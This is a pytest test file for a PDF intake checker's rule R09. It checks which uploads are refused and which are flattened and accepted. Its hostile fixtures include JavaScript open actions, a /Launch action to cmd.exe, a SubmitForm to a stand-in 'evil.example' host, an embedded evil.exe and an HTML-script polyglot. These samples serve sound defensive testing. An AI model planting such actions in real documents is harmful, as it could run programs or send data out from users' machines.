"""R09 for PDF: refused only when it cannot be rendered; everything else is flattened (R11)."""

from __future__ import annotations

from pathlib import Path

import pikepdf
import pytest

from tests import intake_fixtures as fx
from tui_app.core.limits import MAX_PDF_PAGES
from tui_app.intake import Verdict


def _annot(p: pikepdf.Pdf, action: pikepdf.Dictionary, subtype: str = "/Link") -> None:
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 100, 100], A=action
    )
    p.pages[0].Annots = p.make_indirect(pikepdf.Array([p.make_indirect(annot)]))


def _action(s: str, **kw: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(s), **kw)


def open_action_js(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = p.make_indirect(_action("/JavaScript", JS=pikepdf.String("app.alert(1)")))


def names_js(p: pikepdf.Pdf) -> None:
    js = p.make_indirect(_action("/JavaScript", JS=pikepdf.String("this.print()")))
    p.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js]))
    )


def launch(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/Launch", F=pikepdf.String("cmd.exe")))


def submit(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/SubmitForm", F=pikepdf.String("https://evil.example/")))


def gotor(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/GoToR", F=pikepdf.String("other.pdf"), D=pikepdf.Array([0, "/Fit"])))


def next_chain_js(p: pikepdf.Pdf) -> None:
    _annot(
        p,
        _action(
            "/URI",
            URI=pikepdf.String("https://1177.se"),
            Next=_action("/JavaScript", JS=pikepdf.String("1")),
        ),
    )


def page_aa(p: pikepdf.Pdf) -> None:
    p.pages[0].AA = pikepdf.Dictionary(O=_action("/URI", URI=pikepdf.String("https://1177.se")))


def open_action_uri(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = _action("/URI", URI=pikepdf.String("https://evil.example"))


def embedded(p: pikepdf.Pdf) -> None:
    p.attachments["evil.exe"] = pikepdf.AttachedFileSpec(p, fx.MZ, filename="evil.exe")


def xfa(p: pikepdf.Pdf) -> None:
    p.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


def rich_media(p: pikepdf.Pdf) -> None:
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10]
    )
    p.pages[0].Annots = pikepdf.Array([p.make_indirect(annot)])


def jbig2(p: pikepdf.Pdf) -> None:
    img = pikepdf.Stream(
        p,
        b"\x00" * 16,
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=8,
        Height=8,
        BitsPerComponent=1,
        ColorSpace=pikepdf.Name.DeviceGray,
        Filter=pikepdf.Name.JBIG2Decode,
    )
    p.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=img))


def uri_link(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/URI", URI=pikepdf.String("https://www.1177.se/")))


def goto_open(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = pikepdf.Array([p.pages[0].obj, pikepdf.Name.Fit])


def plain_form(p: pikepdf.Pdf) -> None:
    field = p.make_indirect(
        pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("namn"), V=pikepdf.String("Anna"))
    )
    p.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _raw_pdf() -> bytes:
    return fx.pdf(compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)


RAW = _raw_pdf()

# Refused: only what cannot be rendered, with the real reason.
REFUSED: dict[str, tuple[bytes, str]] = {
    "encrypted.pdf": (
        fx.pdf(encryption=pikepdf.Encryption(owner="o", user="hemligt")),
        "lösenordsskyddad",
    ),
    "jbig2.pdf": (fx.pdf(build=jbig2), "JBIG2"),
    "junk-before.pdf": (b"<html>junk</html>\n" + fx.pdf(), "okänd data före"),
    "zero-pages.pdf": (fx.pdf(pages=0), "inga sidor"),
    "too-many-pages.pdf": (fx.pdf(pages=MAX_PDF_PAGES + 1), f"{MAX_PDF_PAGES + 1} sidor"),
    "truncated.pdf": (RAW[:-60], "ofullständig"),
    "header-only.pdf": (b"%PDF-1.7\n" + b"x" * 200 + b"\n%%EOF\n", "går inte att öppna och visa"),
}

# Accepted and flattened: active content, polyglot payloads and repairable damage are left
# behind when the pages are rendered.
ACCEPTED: dict[str, bytes] = {
    "plain.pdf": fx.pdf(),
    "uri-link.pdf": fx.pdf(build=uri_link),
    "open-at-page-one.pdf": fx.pdf(build=goto_open),
    "form.pdf": fx.pdf(build=plain_form),
    "object-streams.pdf": fx.pdf(pages=3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "uncompressed.pdf": RAW,
    "hand-written.pdf": fx.raw_pdf(pad=2000),
    "owner-locked.pdf": fx.pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "open-action-js.pdf": fx.pdf(build=open_action_js),
    "names-js.pdf": fx.pdf(build=names_js),
    "launch.pdf": fx.pdf(build=launch),
    "submit.pdf": fx.pdf(build=submit),
    "gotor.pdf": fx.pdf(build=gotor),
    "next-chain-js.pdf": fx.pdf(build=next_chain_js),
    "page-aa.pdf": fx.pdf(build=page_aa),
    "open-action-uri.pdf": fx.pdf(build=open_action_uri),
    "embedded.pdf": fx.pdf(build=embedded),
    "xfa.pdf": fx.pdf(build=xfa),
    "rich-media.pdf": fx.pdf(build=rich_media),
    "trailing-junk.pdf": fx.pdf() + b"junk after the end",
    "pdf-zip.pdf": fx.pdf() + fx.zip_bytes(),
    "pdf-html-head.pdf": b"%PDF-1.4\n%<html><script>alert(1)</script>\n" + RAW[9:],
    "pdf-2.0-whitespace-before-xref.pdf": fx.pdf20_whitespace_before_xref(),
    **{name: data for name, (data, _) in fx.HOSTILE_PDFS.items()},
}


def _reportlab_pdf() -> bytes:
    import io

    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out)
    c.drawString(72, 720, "Remiss: hudutslag, höger underarm")
    c.linkURL("https://www.1177.se", (72, 600, 200, 620))
    c.showPage()
    c.save()
    return out.getvalue()


ACCEPTED["reportlab.pdf"] = _reportlab_pdf()


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Verdict]:
    files = {name: data for name, (data, _) in REFUSED.items()} | ACCEPTED
    return fx.check_files(tmp_path_factory.mktemp("pdf"), files)  # type: ignore[return-value]


@pytest.mark.parametrize("name", REFUSED)
def test_r09_refuses_pdf_that_cannot_be_rendered_with_the_real_reason(
    verdicts: dict[str, Verdict], name: str
) -> None:
    v = verdicts[name]
    assert not v.accepted
    assert REFUSED[name][1] in (v.reason or ""), v.reason


@pytest.mark.parametrize("name", ACCEPTED)
def test_r09_accepts_renderable_pdf(verdicts: dict[str, Verdict], name: str) -> None:
    v = verdicts[name]
    assert v.accepted, v.reason
    assert v.mime == "application/pdf" and v.pages


def test_r09_refuses_encrypted_pdf_with_clear_wording(verdicts: dict[str, Verdict]) -> None:
    assert (verdicts["encrypted.pdf"].reason or "").startswith("Filen är lösenordsskyddad")


def test_r09_pdf_20_with_harmless_qpdf_warning_is_accepted() -> None:
    import io

    data = fx.pdf20_whitespace_before_xref()
    with pikepdf.open(io.BytesIO(data)) as p:  # the fixture really provokes qpdf's warning
        assert any("whitespace" in w for w in p.get_warnings()), p.get_warnings()
    assert data.startswith(b"%PDF-2.0")


def test_r09_accepts_pdf_at_the_page_limit(tmp_path: Path) -> None:
    from tui_app.intake import check_path
    from tui_app.intake.sandbox import SandboxConfig

    # The limits of a loaded test machine are not what is tested here (bench/intake.py measures).
    v = check_path(
        fx.write(tmp_path, "max.pdf", fx.pdf(pages=MAX_PDF_PAGES)),
        SandboxConfig(cpu_seconds=300, wall_seconds=1200),
    )
    assert v.accepted and v.pages == MAX_PDF_PAGES, v.reason
